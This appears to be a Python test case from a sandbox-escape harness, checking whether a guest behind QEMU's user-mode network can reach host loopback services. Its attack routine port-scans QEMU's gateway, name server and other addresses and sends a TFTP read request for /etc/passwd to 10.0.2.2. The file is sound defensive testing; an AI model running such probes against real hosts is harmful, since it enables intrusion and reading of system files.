"""Reaches services of the host's loopback through what QEMU's own network plays for the guest: its
router, its name server, its services, and every address that it would take for itself.

layer: QEMU's network ends in the sandbox's network namespace, whose only way out is the gateway
control: at home, without the sandbox, they answer
"""
from harness import world

NEEDS = ["root"]
SLOW = True


def scene(s):
    world.scene(s, ["web.test:443", "*:5432"])
    world.serve_at_home(s)


def attack(a):
    for host in ("10.0.2.2", "10.0.2.3", "10.0.2.4", "10.0.2.15", "10.0.2.255", "127.0.0.1",
                 "0.0.0.0", "192.0.2.1"):
        for port in (5432, 53, 69, 139, 445):
            def call():
                with socket.create_connection((host, port), timeout=1.5) as c:
                    c.sendall(b"x")
                    print(host, port, c.recv(20))
            attempt(call)

    def tftp():	# QEMU can serve files by itself
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
            u.settimeout(1.5)
            u.sendto(b"\0\1/etc/passwd\0octet\0", ("10.0.2.2", 69))
            data = u.recv(600)
            print("tftp", data)
            if b"root:" in data:
                print("FILE-BY-TFTP")
    attempt(tftp)


def escaped(s, r):
    return any(line.startswith("home ") for line in s.world.log()) or "FILE-BY-TFTP" in r.out
